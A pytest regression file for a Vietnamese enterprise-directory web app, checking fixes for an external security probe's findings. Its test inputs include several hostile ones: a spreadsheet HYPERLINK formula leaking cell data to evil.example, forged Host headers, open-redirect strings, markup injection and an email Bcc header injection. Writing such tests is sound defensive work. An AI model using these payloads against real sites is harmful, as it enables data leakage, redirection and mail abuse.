"""The defects of the external security probe (shared/SECURITY_PROBE.md), each reproduced the way the
probe did it; each test failed before its fix."""

from __future__ import annotations

import io
import re
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select

from cnht.accounts import auth
from cnht.accounts.models import User
from cnht.enterprises import services
from cnht.enterprises.models import Attachment, Enterprise
from cnht.enterprises.schemas import EnterpriseIn
from cnht.mail import OutboxMessage
from cnht.matching.models import SourcingRequirement
from tests.client import csrf_from, fresh_client, login, post_form
from tests.factories import PASSWORD, enterprise_record, make_user

OWN, OTHER = "0100112437", "0313845728"
ROOT = Path(__file__).resolve().parents[2]
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
PDF = b"%PDF-1.4\n% certificate scan\n"


@pytest.fixture
def firms(session):
    for tc, name in (
        (OWN, "Công ty TNHH Cơ khí Chính xác Hòa Bình"),
        (OTHER, "Công ty Cổ phần Điện tử Sao Việt"),
    ):
        services.upsert(session, EnterpriseIn().load(enterprise_record(tax_code=tc, name=name)))
    session.commit()
    make_user(session, "sme", "sme@example.vn", tax_code=OWN)
    make_user(session, "sme", "other-sme@example.vn", tax_code=OTHER)
    make_user(session, "buyer", "buyer@example.vn")
    make_user(session, "staff", "staff@example.vn")


def _csrf(client, url: str, headers: dict) -> str:
    """A CSRF token for requests sent with these headers (cookies follow the host the client talks to)."""
    html = client.get(url, headers=headers).get_data(as_text=True)
    return re.search(r'name="csrf_token" value="([^"]+)"', html).group(1)


def _mail_body(session, kind: str) -> str:
    """The latest mail of that kind, without the Department's signature (its link is checked apart)."""
    session.expire_all()
    body = session.scalars(select(OutboxMessage).where(OutboxMessage.kind == kind)).all()[-1].body
    text, _sep, signature = body.rpartition("\n\n-- \n")
    assert "Sở Công Thương" in signature and "evil.example" not in signature
    return text


# ---- 1, 6: links in mails come from configuration, never from the Host header ----------------------


def test_reset_link_ignores_a_forged_host(app, client, session, firms, monkeypatch):
    monkeypatch.setitem(app.config, "BASE_URL", "https://cnht.sct.example.gov.vn")
    evil = {"Host": "evil.example"}
    token = _csrf(client, "/password/forgot", evil)
    client.post("/password/forgot", data={"email": "sme@example.vn", "csrf_token": token}, headers=evil)
    body = _mail_body(session, "password_reset")
    assert "evil.example" not in body and "https://cnht.sct.example.gov.vn/password/reset/" in body


def test_without_base_url_links_stay_on_this_machine(app, client, session, firms, monkeypatch):
    monkeypatch.setitem(app.config, "BASE_URL", None)
    evil = {"Host": "evil.example"}
    token = _csrf(client, "/password/forgot", evil)
    client.post("/password/forgot", data={"email": "sme@example.vn", "csrf_token": token}, headers=evil)
    body = _mail_body(session, "password_reset")
    assert "evil.example" not in body and "http://127.0.0.1:8000/password/reset/" in body


def test_inquiry_and_invitation_links_ignore_a_forged_host(app, client, session, firms, monkeypatch):
    monkeypatch.setitem(app.config, "BASE_URL", "https://cnht.sct.example.gov.vn")
    login(client, "buyer@example.vn")
    token = csrf_from(client, f"/enterprises/{OWN}/inquiry")
    # the probe's curl sent its own cookie with a forged Host; the test client scopes cookies by host
    client.set_cookie("session", client.get_cookie("session").value, domain="evil.example")
    evil = {"Host": "evil.example"}
    client.post(
        f"/enterprises/{OWN}/inquiry",
        headers=evil,
        data={"subject": "Báo giá khuôn", "message": "Xin báo giá 1.000 bộ khuôn ép", "csrf_token": token},
    )
    assert _mail_body(session, "inquiry").endswith("https://cnht.sct.example.gov.vn/inbox")
    buyer = session.scalar(select(User).where(User.email == "buyer@example.vn"))
    req = SourcingRequirement(owner_id=buyer.id, title="Khuôn ép", status="open", visibility="public")
    session.add(req)
    session.commit()
    token = csrf_from(client, f"/requirements/{req.id}")
    client.post(
        f"/requirements/{req.id}/connect",
        headers=evil,
        data={"enterprise": OWN, "stage": "invited", "csrf_token": token},
    )
    assert _mail_body(session, "connection").endswith(
        f"https://cnht.sct.example.gov.vn/requirements/{req.id}"
    )


def test_a_bad_base_url_is_refused_at_start(tmp_path):
    from cnht.config import ConfigError, load_config

    with pytest.raises(ConfigError, match="CNHT_BASE_URL"):
        load_config({"INSTANCE_PATH": str(tmp_path), "BASE_URL": "javascript:alert(1)"})


# ---- 2: private documents ---------------------------------------------------------------------------


def _upload(client, kind: str, data: bytes, name: str) -> None:
    r = post_form(
        client,
        f"/enterprises/{OWN}/attachments",
        {"kind": kind, "file": (io.BytesIO(data), name)},
        page=f"/enterprises/{OWN}/edit",
        content_type="multipart/form-data",
    )
    assert r.status_code == 302


def test_certificates_and_documents_are_private_photos_public(app, session, firms):
    owner = fresh_client(app)
    login(owner, "sme@example.vn")
    _upload(owner, "photo", PNG, "xuong.png")
    _upload(owner, "certificate", PDF, "iso.pdf")
    session.expire_all()
    atts = {a.kind: a for a in session.scalars(select(Attachment))}
    photo, cert = atts["photo"], atts["certificate"]
    assert len(cert.public_id) == 32 and fresh_client(app).get(f"/attachments/{cert.id}").status_code == 404
    for who in (None, "other-sme@example.vn", "buyer@example.vn"):
        c = fresh_client(app)
        if who:
            login(c, who)
        assert c.get(f"/attachments/{cert.public_id}").status_code == 404, who
        assert c.get(f"/attachments/{photo.public_id}").status_code == 200, who
    got = owner.get(f"/attachments/{cert.public_id}")
    assert got.status_code == 200 and got.data == PDF and "no-store" in got.headers["Cache-Control"]
    staff = fresh_client(app)
    login(staff, "staff@example.vn")
    assert staff.get(f"/attachments/{cert.public_id}").status_code == 200
    services.soft_delete(session, services.get_by_tax_code(session, OWN))
    session.commit()
    assert fresh_client(app).get(f"/attachments/{photo.public_id}").status_code == 404


# ---- 3: open redirects ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "target",
    [
        "/\t/evil.example",
        "/\n/evil.example",
        "/\\evil.example",
        "//evil.example",
        "https://evil.example",
        "/ /evil.example",
    ],
)
def test_sign_in_never_redirects_off_site(client, session, firms, target):
    token = csrf_from(client, "/login")
    r = client.post(
        "/login",
        data={"email": "buyer@example.vn", "password": PASSWORD, "next": target, "csrf_token": token},
    )
    assert r.status_code == 302 and r.headers["Location"] in ("/", "http://localhost/")


def test_sign_in_never_follows_a_tab_in_the_query_string(client, session, firms):
    token = csrf_from(client, "/login")
    r = client.post(
        "/login?next=/%09/evil.example",
        data={"email": "buyer@example.vn", "password": PASSWORD, "csrf_token": token},
    )
    assert r.headers["Location"] in ("/", "http://localhost/")


def test_sign_in_keeps_a_local_next(client, session, firms):
    token = csrf_from(client, "/login")
    r = client.post(
        "/login",
        data={"email": "buyer@example.vn", "password": PASSWORD, "next": "/shortlists", "csrf_token": token},
    )
    assert r.headers["Location"].endswith("/shortlists")


# ---- 4: no |safe on data -----------------------------------------------------------------------------


def test_an_imported_name_cannot_inject_markup_on_browse_pages(client, session):
    name = '<meta http-equiv=refresh content="0;url=https://evil.example"> Cơ khí'
    services.upsert(session, EnterpriseIn().load(enterprise_record(name=name, province="Cà Mau")))
    session.commit()
    html = client.get("/search?province=Cà Mau").get_data(as_text=True)
    assert "Cơ khí" in html and "<meta http-equiv=refresh" not in html and "&lt;meta" in html


def test_no_template_marks_data_safe():
    offenders = [
        str(p.relative_to(ROOT))
        for p in (ROOT / "cnht").rglob("templates/**/*.html")
        if re.search(r"\|\s*safe\b", p.read_text(encoding="utf-8"))
    ]
    assert offenders == []


# ---- 5, 8: exports are safe to open ------------------------------------------------------------------


def _set_description(session, text: str) -> None:
    ent = services.get_by_tax_code(session, OWN)
    ent.description = text
    session.commit()


def test_export_cells_never_become_formulas(app, session, firms):
    _set_description(session, '=HYPERLINK("http://evil.example/?"&A2,"Xem")')
    staff = fresh_client(app)
    login(staff, "staff@example.vn")
    wb = openpyxl.load_workbook(io.BytesIO(staff.get("/staff/export.xlsx").data))
    cells = [
        c for row in wb.active.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value
    ]
    assert cells and all(c.data_type == "s" for c in cells)
    csv_text = staff.get("/staff/export.csv").data.decode("utf-8-sig")
    assert "'=HYPERLINK" in csv_text and ",=HYPERLINK" not in csv_text


def test_control_characters_never_break_the_export(app, session, firms):
    staff = fresh_client(app)
    login(staff, "staff@example.vn")
    sme = fresh_client(app)
    login(sme, "sme@example.vn")
    post_form(
        sme,
        f"/enterprises/{OWN}/edit/general",
        {"description": "mô tả\x01\x1b kết thúc"},
        page=f"/enterprises/{OWN}/edit",
    )
    session.expire_all()
    assert services.get_by_tax_code(session, OWN).description == "mô tả kết thúc"
    _set_description(session, "cũ\x01 vẫn còn")  # written before the fix, straight to the database
    assert staff.get("/staff/export.xlsx").status_code == 200


# ---- 7: ordinary and hostile input gets a 4xx, never a 500 -------------------------------------------


@pytest.mark.parametrize("title", ["", "  ", "\n"])
def test_blank_title_is_a_validation_error(client, title):
    r = client.post("/api/v1/match", json={"title": title})
    assert r.status_code == 422 and "title" in r.get_json()["error"]["details"]["json"]


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/requirements/99999999999999999999",
        "/api/v1/requirements/99999999999999999999/matches",
        "/api/v1/enterprises/id-1000000000000000000000000000000",
        "/enterprises/id-1000000000000000000000000000000",
        "/requirements/99999999999999999999",
    ],
)
def test_ids_beyond_64_bits_are_not_found(client, path):
    assert client.get(path).status_code == 404


def test_huge_page_numbers_and_numbers(client):
    assert client.get("/api/v1/enterprises?page=" + "9" * 30).status_code == 422
    assert client.get("/enterprises?page=" + "9" * 30).status_code == 200
    assert (
        client.post(
            "/api/v1/match",
            data='{"title": "Khuôn ép", "min_employees": 1e309}',
            content_type="application/json",
        ).status_code
        == 422
    )


def test_deeply_nested_json_is_a_bad_request(client):
    r = client.post("/api/v1/match", data="[" * 20000 + "]" * 20000, content_type="application/json")
    assert r.status_code == 400 and r.get_json()["error"]["code"] == "bad_request"


def test_json_python_will_not_read_is_a_bad_request(client):
    # valid JSON, but Python refuses integers of more than 4,300 digits (CVE-2020-10735)
    r = client.post(
        "/api/v1/match",
        data='{"title": "Khuôn", "min_employees": ' + "9" * 5000 + "}",
        content_type="application/json",
    )
    assert r.status_code == 400 and r.get_json()["error"]["code"] == "bad_request"
    r = client.put(
        "/api/v1/localisation/survey/x",
        data='{"products": [{"fob": ' + "1" * 4400 + "}]}",
        content_type="application/json",
    )
    assert r.status_code == 400


def test_a_huge_negative_amount_is_refused(client):
    # a profit may be negative, but no more than an amount may be large: refused, not a 500
    body = {"products": [{"name": "Khuôn", "fob": 10, "profit": -1e308}]}
    r = client.put("/api/v1/localisation/survey/x", json=body)
    assert r.status_code == 422
    assert "profit" in r.get_json()["error"]["details"]["json"]["products"]["0"]


def test_lone_surrogates_are_dropped(client, session, firms):
    login(client, "buyer@example.vn")
    token = csrf_from(client, "/account")
    r = client.post(
        "/api/v1/requirements",
        data='{"title": "Khu\\u00f4n \\ud800 \\u00e9p nh\\u1ef1a"}',
        content_type="application/json",
        headers={"X-CSRFToken": token},
    )
    assert r.status_code == 201 and r.get_json()["title"] == "Khuôn ép nhựa"
    assert client.get("/requirements").status_code == 200


def test_bulk_verification_ignores_non_ascii_digits(app, session, firms):
    staff = fresh_client(app)
    login(staff, "staff@example.vn")
    r = post_form(
        staff, "/staff/verification/bulk", {"level": "documents_checked", "ids": "²"}, page="/staff/"
    )
    assert r.status_code == 302


# ---- 10: a line break in a subject never loses the message -------------------------------------------


def test_line_breaks_in_a_subject_never_lose_an_inquiry(app, client, session, firms, monkeypatch):
    monkeypatch.setitem(app.config, "SMTP_HOST", "127.0.0.1")
    monkeypatch.setitem(app.config, "SMTP_PORT", 9)  # discard port: nothing listens, the send fails cleanly
    login(client, "buyer@example.vn")
    r = post_form(
        client,
        f"/enterprises/{OWN}/inquiry",
        {"subject": "Báo giá\r\nBcc: x@evil.example", "message": "Xin báo giá 1.000 bộ khuôn ép"},
        page=f"/enterprises/{OWN}/inquiry",
    )
    assert r.status_code == 302
    session.expire_all()
    mail = session.scalars(select(OutboxMessage).where(OutboxMessage.kind == "inquiry")).one()
    assert "\n" not in mail.subject and "\r" not in mail.subject and mail.error


# ---- 11, 12, 14: sessions and tokens -----------------------------------------------------------------


def test_sign_out_ends_a_copied_session(app, session, firms):
    client = fresh_client(app)
    login(client, "buyer@example.vn")
    stolen = client.get_cookie("session").value
    post_form(client, "/logout", {}, page="/account")
    thief = fresh_client(app)
    thief.set_cookie("session", stolen)
    assert thief.get("/account").status_code == 302  # off to the sign-in form


def test_tokens_end_at_password_reset_expire_and_can_be_revoked(app, session, firms):
    user = session.scalar(select(User).where(User.email == "buyer@example.vn"))
    token = auth.issue_api_token(user)
    session.commit()
    api = fresh_client(app)
    bearer = {"Authorization": f"Bearer {token}"}
    assert api.get("/api/v1/requirements", headers=bearer).status_code == 200
    assert (
        api.post("/shortlists/add", data={"enterprise": OWN}, headers=bearer).status_code in (302, 400)
        and not session.scalars(select(User).where(User.email == "nobody")).first()
    )
    from cnht.accounts.services import set_password

    set_password(user, "mat-khau-moi-rat-dai-2026")
    session.commit()
    r = api.post("/api/v1/requirements", json={"title": "Khuôn ép"}, headers=bearer)
    assert r.status_code in (400, 401)  # the reset revoked it
    token = auth.issue_api_token(user)
    user.api_token_expires_at = user.api_token_expires_at.replace(year=2020)
    session.commit()
    r = fresh_client(app).post(
        "/api/v1/requirements", json={"title": "Khuôn ép"}, headers={"Authorization": f"Bearer {token}"}
    )
    assert r.status_code in (400, 401)


def test_a_token_only_authenticates_the_api(app, session, firms):
    user = session.scalar(select(User).where(User.email == "buyer@example.vn"))
    token = auth.issue_api_token(user)
    session.commit()
    page = fresh_client(app).get("/shortlists", headers={"Authorization": f"Bearer {token}"})
    assert page.status_code == 302  # the pages want a signed-in browser


def test_a_junk_bearer_header_does_not_switch_csrf_off(app, session, firms):
    client = fresh_client(app)
    login(client, "buyer@example.vn")
    token = csrf_from(client, "/account")
    r = client.post("/api/v1/requirements", json={"title": "Khuôn ép"}, headers={"X-CSRFToken": token})
    req_id = r.get_json()["id"]
    r = client.patch(
        f"/api/v1/requirements/{req_id}", json={"title": "Đổi tên"}, headers={"Authorization": "Bearer junk"}
    )
    assert r.status_code == 400
    session.expire_all()
    assert session.get(SourcingRequirement, req_id).title == "Khuôn ép"


def test_new_token_is_not_kept_in_the_session_cookie(app, session, firms):
    client = fresh_client(app)
    login(client, "buyer@example.vn")
    r = post_form(client, "/account/token", {}, page="/account")
    assert r.status_code == 200 and "cnht_" in r.get_data(as_text=True)
    import base64
    import zlib

    cookie = client.get_cookie("session").value
    payload = cookie.lstrip(".").split(".")[0]
    raw = base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4))
    text = (zlib.decompress(raw) if cookie.startswith(".") else raw).decode("utf-8", "replace")
    assert "cnht_" not in text


def test_enterprise_rows_unchanged_by_all_of_this(session, firms):
    assert session.scalar(select(Enterprise).where(Enterprise.tax_code == OTHER)) is not None


# ---- 15, 16: limits and the API's answers ------------------------------------------------------------


def test_inquiries_are_limited_per_sender(app, client, session, firms, monkeypatch):
    monkeypatch.setitem(app.config, "RATE_LIMIT_INQUIRY", "3 per hour")
    login(client, "buyer@example.vn")
    codes = [
        post_form(
            client,
            f"/enterprises/{OWN}/inquiry",
            {"subject": f"Báo giá {i}", "message": "Xin báo giá 1.000 bộ khuôn ép"},
            page=f"/enterprises/{OWN}/inquiry",
        ).status_code
        for i in range(4)
    ]
    assert codes == [302, 302, 302, 429]
    session.expire_all()
    assert len(session.scalars(select(OutboxMessage).where(OutboxMessage.kind == "inquiry")).all()) == 3


def test_anonymous_api_writes_answer_401(client):
    r = client.patch("/api/v1/requirements/1", json={})
    assert r.status_code == 401 and r.get_json()["error"]["code"] == "unauthorized"


def test_null_lists_in_a_match_request_are_empty_lists(client):
    body = {
        "title": "Khuôn ép nhựa",
        "processes": None,
        "materials": None,
        "certifications_required": None,
        "certifications_preferred": None,
        "provinces_required": None,
        "provinces_preferred": None,
    }
    assert client.post("/api/v1/match", json=body).status_code == 200


def test_every_route_documents_its_success_response(client):
    spec = client.get("/api/openapi.json").get_json()
    methods = {"get", "post", "put", "patch", "delete"}
    missing = [
        f"{m.upper()} {p}"
        for p, ops in spec["paths"].items()
        for m, op in ops.items()
        if m in methods and not any(code.startswith("2") for code in op["responses"])
    ]
    assert missing == []
